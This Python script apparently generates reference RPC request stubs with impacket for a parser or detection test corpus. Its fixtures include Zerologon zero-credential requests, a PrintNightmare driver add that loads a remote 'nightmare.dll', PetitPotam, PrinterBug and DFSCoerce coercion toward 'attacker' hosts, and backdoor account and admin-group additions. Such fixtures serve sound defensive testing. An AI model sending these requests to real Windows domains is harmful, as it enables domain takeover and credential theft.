#!/usr/bin/python3
"""
Reference request stubs marshalled by impacket (python3-impacket: an NDR implementation
independent of ours, the library samrdump/lookupsid/secretsdump/PrinterBug/PetitPotam are built on)
for the samr/lsarpc/netlogon/spoolss/srvsvc/wkssvc/efsrpc/dfsnm operations the corpus lacks, with
the arguments each carried. MS-EFSR and MS-DFSNM are not in impacket: their requests are written
below from the IDL (MS-EFSR 3.1.4.2, MS-DFSNM 3.1.4.1.2/3), marshalled by impacket's NDR classes.
Prints one JSON object per line.
"""
import json
from impacket.dcerpc.v5 import samr, lsat, lsad, nrpc, rprn, srvs, wkst
from impacket.dcerpc.v5.dtypes import NULL, RPC_SID, WSTR, LPWSTR, DWORD, LONG, ULONG, LPBYTE
from impacket.dcerpc.v5.ndr import NDRCALL, NDRSTRUCT, NDRPOINTER

H = bytes(range(1, 21))
out = []


class Capture:
    def __init__(self, iface, expect, ndr64=False):
        self.iface, self.expect = iface, expect

    def request(self, req, *a, **k):
        out.append({'iface': self.iface, 'opnum': req.opnum, 'op': req.__class__.__name__,
                    'stub': req.getData().hex(), 'handle': self.expect.pop('_handle', None),
                    'args': self.expect})


def call(iface, expect, fn, *args, **kw):
    try:
        fn(Capture(iface, expect), *args, **kw)
    except (TypeError, KeyError, AttributeError):
        pass  # h* helpers that read the (absent) response: the request was captured already


def raw(iface, expect, req):
    Capture(iface, expect).request(req)


# samr: account creation and group membership (SW-0011), lookups
call('samr', {'_handle': H.hex(), 'account': 'evil$'}, samr.hSamrCreateUser2InDomain, H, 'evil$', samr.USER_WORKSTATION_TRUST_ACCOUNT)
call('samr', {'_handle': H.hex(), 'account': 'backdoor'}, samr.hSamrCreateUserInDomain, H, 'backdoor')
call('samr', {'_handle': H.hex(), 'group_rid': 544}, samr.hSamrOpenAlias, H, aliasId=544)
call('samr', {'_handle': H.hex(), 'group_rid': 512}, samr.hSamrOpenGroup, H, groupId=512)
sid = RPC_SID()
sid.fromCanonical('S-1-5-21-1004336348-1177238915-682003330-1105')
call('samr', {'_handle': H.hex(), 'member_sid': 'S-1-5-21-1004336348-1177238915-682003330-1105'}, samr.hSamrAddMemberToAlias, H, sid)
call('samr', {'_handle': H.hex(), 'member_rid': 1105}, samr.hSamrAddMemberToGroup, H, 1105, samr.SE_GROUP_ENABLED_BY_DEFAULT)
buf = samr.SAMPR_USER_INFO_BUFFER()
buf['tag'] = samr.USER_INFORMATION_CLASS.UserControlInformation
buf['Control']['UserAccountControl'] = samr.USER_NORMAL_ACCOUNT
call('samr', {'_handle': H.hex(), 'level': 16}, samr.hSamrSetInformationUser2, H, buf)
call('samr', {'_handle': H.hex(), 'names': ['Administrator', 'krbtgt', 'Gäste']}, samr.hSamrLookupNamesInDomain, H, ['Administrator', 'krbtgt', 'Gäste'])
call('samr', {'_handle': H.hex()}, samr.hSamrEnumerateUsersInDomain, H)

# lsarpc: lookupsid.py / policy
call('lsarpc', {'_handle': H.hex(), 'count': 2}, lsat.hLsarLookupSids, H, ['S-1-5-21-1-2-3-500', 'S-1-5-32-544'])
call('lsarpc', {'_handle': H.hex(), 'count': 2, 'names': ['CONTOSO\\alice', 'bob']}, lsat.hLsarLookupNames, H, ['CONTOSO\\alice', 'bob'])
call('lsarpc', {}, lsad.hLsarOpenPolicy2)
call('lsarpc', {'_handle': H.hex(), 'level': 5}, lsad.hLsarQueryInformationPolicy2, H, lsad.POLICY_INFORMATION_CLASS.PolicyAccountDomainInformation)
call('lsarpc', {'_handle': H.hex(), 'level': 3}, lsad.hLsarQueryInformationPolicy, H, lsad.POLICY_INFORMATION_CLASS.PolicyPrimaryDomainInformation)

# netlogon: Zerologon as the exploits send it, and a normal machine logon
Z8 = b'\x00' * 8
call('netlogon', {'computer': 'DC01', 'zero_credential': True}, nrpc.hNetrServerReqChallenge, '\\\\DC01\x00', 'DC01\x00', Z8)
call('netlogon', {'account': 'DC01$', 'computer': 'DC01', 'zero_credential': True}, nrpc.hNetrServerAuthenticate3,
     '\\\\DC01\x00', 'DC01$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, 'DC01\x00', Z8, 0x212fffff)
call('netlogon', {'account': 'WS7$', 'computer': 'WS7', 'zero_credential': False}, nrpc.hNetrServerAuthenticate2,
     '\\\\DC01\x00', 'WS7$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel, 'WS7\x00', b'\x01\x02\x03\x04\x05\x06\x07\x08', 0x600fffff)
auth = nrpc.NETLOGON_AUTHENTICATOR()
auth['Credential'] = Z8
auth['Timestamp'] = 0
call('netlogon', {'account': 'DC01$', 'computer': 'DC01', 'zero_credential': True, 'zero_password': True}, nrpc.hNetrServerPasswordSet2,
     '\\\\DC01\x00', 'DC01$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, 'DC01\x00', auth, b'\x00' * 516)
auth2 = nrpc.NETLOGON_AUTHENTICATOR()
auth2['Credential'] = b'\x11' * 8
auth2['Timestamp'] = 1234
call('netlogon', {'account': 'DC01$', 'computer': 'DC01', 'zero_credential': False, 'zero_password': False}, nrpc.hNetrServerPasswordSet2,
     '\\\\DC01\x00', 'DC01$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, 'DC01\x00', auth2, b'\x42' * 516)

# spoolss: the printer bug and PrintNightmare
call('spoolss', {'printer': '\\\\dc01'}, rprn.hRpcOpenPrinter, '\\\\dc01\x00')
ci = rprn.SPLCLIENT_CONTAINER()
ci['Level'] = 1
ci['ClientInfo']['tag'] = 1
ci['ClientInfo']['pClientInfo1']['dwSize'] = 28
ci['ClientInfo']['pClientInfo1']['pMachineName'] = 'WS7\x00'
ci['ClientInfo']['pClientInfo1']['pUserName'] = 'alice\x00'
ci['ClientInfo']['pClientInfo1']['dwBuildNum'] = 7600
ci['ClientInfo']['pClientInfo1']['dwMajorVersion'] = 3
ci['ClientInfo']['pClientInfo1']['dwMinorVersion'] = 0
ci['ClientInfo']['pClientInfo1']['wProcessorArchitecture'] = 9
call('spoolss', {'printer': '\\\\dc01\\HP LaserJet'}, rprn.hRpcOpenPrinterEx, '\\\\dc01\\HP LaserJet\x00', pClientInfo=ci)
call('spoolss', {'_handle': H.hex(), 'path': '\\\\attacker'}, rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx, H,
     rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine='\\\\attacker\x00')
class RpcRemoteFindFirstPrinterChangeNotification(NDRCALL):
    # MS-RPRN 3.1.4.10.3 (not in impacket)
    opnum = 62
    structure = (('hPrinter', rprn.PRINTER_HANDLE), ('fdwFlags', DWORD), ('fdwOptions', DWORD), ('pszLocalMachine', LPWSTR),
                 ('dwPrinterLocal', DWORD), ('cbBuffer', DWORD), ('pBuffer', LPBYTE))


r62 = RpcRemoteFindFirstPrinterChangeNotification()
r62['hPrinter'] = H
r62['fdwFlags'] = rprn.PRINTER_CHANGE_ADD_JOB
r62['fdwOptions'] = 0
r62['pszLocalMachine'] = '\\\\10.0.0.66\x00'
r62['dwPrinterLocal'] = 0
r62['cbBuffer'] = 0
r62['pBuffer'] = NULL
raw('spoolss', {'_handle': H.hex(), 'path': '\\\\10.0.0.66'}, r62)
dc = rprn.DRIVER_CONTAINER()
dc['Level'] = 2
dc['DriverInfo']['tag'] = 2
dc['DriverInfo']['Level2']['cVersion'] = 3
dc['DriverInfo']['Level2']['pName'] = '1234\x00'
dc['DriverInfo']['Level2']['pEnvironment'] = 'Windows x64\x00'
dc['DriverInfo']['Level2']['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64_x\\Amd64\\UNIDRV.DLL\x00'
dc['DriverInfo']['Level2']['pDataFile'] = '\\\\10.0.0.66\\share\\nightmare.dll\x00'
dc['DriverInfo']['Level2']['pConfigFile'] = 'C:\\Windows\\System32\\kernelbase.dll\x00'
call('spoolss', {'server': '\\\\dc01', 'level': 2, 'driver_name': '1234',
                 'driver_path': 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64_x\\Amd64\\UNIDRV.DLL',
                 'data_file': '\\\\10.0.0.66\\share\\nightmare.dll', 'config_file': 'C:\\Windows\\System32\\kernelbase.dll'},
     rprn.hRpcAddPrinterDriverEx, '\\\\dc01\x00', dc, rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000)

# srvsvc / wkssvc
call('srvsvc', {'level': 1}, srvs.hNetrShareEnum, 1)
call('srvsvc', {'share': 'ADMIN$', 'level': 2}, srvs.hNetrShareGetInfo, 'ADMIN$\x00', 2)
call('srvsvc', {'share': 'C$'}, srvs.hNetrShareDel, 'C$\x00')
call('srvsvc', {'level': 10}, srvs.hNetrSessionEnum, NULL, NULL, 10)
call('srvsvc', {'level': 101}, srvs.hNetrServerGetInfo, 101)
sa = srvs.NetrShareAdd()  # built as impacket's own tests do (test_srvs.py)
sa['ServerName'] = NULL
sa['Level'] = 2
sa['InfoStruct']['tag'] = 2
sa['InfoStruct']['ShareInfo2']['shi2_netname'] = 'loot$\x00'
sa['InfoStruct']['ShareInfo2']['shi2_type'] = srvs.STYPE_DISKTREE
sa['InfoStruct']['ShareInfo2']['shi2_remark'] = 'x\x00'
sa['InfoStruct']['ShareInfo2']['shi2_max_uses'] = 0xffffffff
sa['InfoStruct']['ShareInfo2']['shi2_path'] = 'C:\\Users\x00'
sa['InfoStruct']['ShareInfo2']['shi2_passwd'] = NULL
sa['ParmErr'] = NULL
raw('srvsvc', {'level': 2, 'share': 'loot$', 'path': 'C:\\Users'}, sa)
call('wkssvc', {'level': 1}, wkst.hNetrWkstaUserEnum, 1)


# MS-EFSR (not in impacket): the requests PetitPotam sends, from the IDL
class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (('FileName', WSTR), ('Flags', LONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    opnum = 4
    structure = (('FileName', WSTR),)


class EfsRpcDecryptFileSrv(NDRCALL):
    opnum = 5
    structure = (('FileName', WSTR), ('OpenFlag', ULONG))


class EfsRpcQueryUsersOnFile(NDRCALL):
    opnum = 6
    structure = (('FileName', WSTR),)


class EFS_RPC_BLOB(NDRSTRUCT):
    structure = (('cbData', DWORD), ('bData', LPBYTE))


class PEFS_RPC_BLOB(NDRPOINTER):
    referent = (('Data', EFS_RPC_BLOB),)


class EfsRpcAddUsersToFileEx(NDRCALL):
    opnum = 15
    structure = (('dwFlags', DWORD), ('Reserved', PEFS_RPC_BLOB), ('FileName', WSTR))


def efs(iface, cls, path, **fields):
    r = cls()
    r['FileName'] = path + '\x00'
    for k, v in fields.items():
        r[k] = v
    raw(iface, {'path': path}, r)


for iface in ('efsrpc', 'efsrpc2'):
    efs(iface, EfsRpcOpenFileRaw, '\\\\10.0.0.66\\test\\Settings.ini', Flags=0)
    efs(iface, EfsRpcEncryptFileSrv, '\\\\10.0.0.66\\test\\x')
    efs(iface, EfsRpcDecryptFileSrv, '\\\\attacker@80/test\\x', OpenFlag=0)
    efs(iface, EfsRpcQueryUsersOnFile, '\\\\10.0.0.66\\c$\\y')
blob = PEFS_RPC_BLOB()
blob['cbData'] = 3
blob['bData'] = b'abc'
efs('efsrpc', EfsRpcAddUsersToFileEx, '\\\\10.0.0.66\\a\\b', dwFlags=0, Reserved=blob)
efs('efsrpc2', EfsRpcAddUsersToFileEx, '\\\\10.0.0.66\\a\\c', dwFlags=2, Reserved=NULL)


# MS-DFSNM (not in impacket): DFSCoerce's calls
class NetrDfsAddStdRoot(NDRCALL):
    opnum = 12
    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('Comment', LPWSTR), ('ApiFlags', DWORD))


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', DWORD))


r12 = NetrDfsAddStdRoot()
r12['ServerName'] = '10.0.0.66\x00'
r12['RootShare'] = 'test\x00'
r12['Comment'] = 'c\x00'
r12['ApiFlags'] = 0
raw('netdfs', {'path': '\\\\10.0.0.66\\test'}, r12)
r13 = NetrDfsRemoveStdRoot()
r13['ServerName'] = 'attacker.contoso.local\x00'
r13['RootShare'] = 'share\x00'
r13['ApiFlags'] = 1
raw('netdfs', {'path': '\\\\attacker.contoso.local\\share'}, r13)

for o in out:
    print(json.dumps(o))
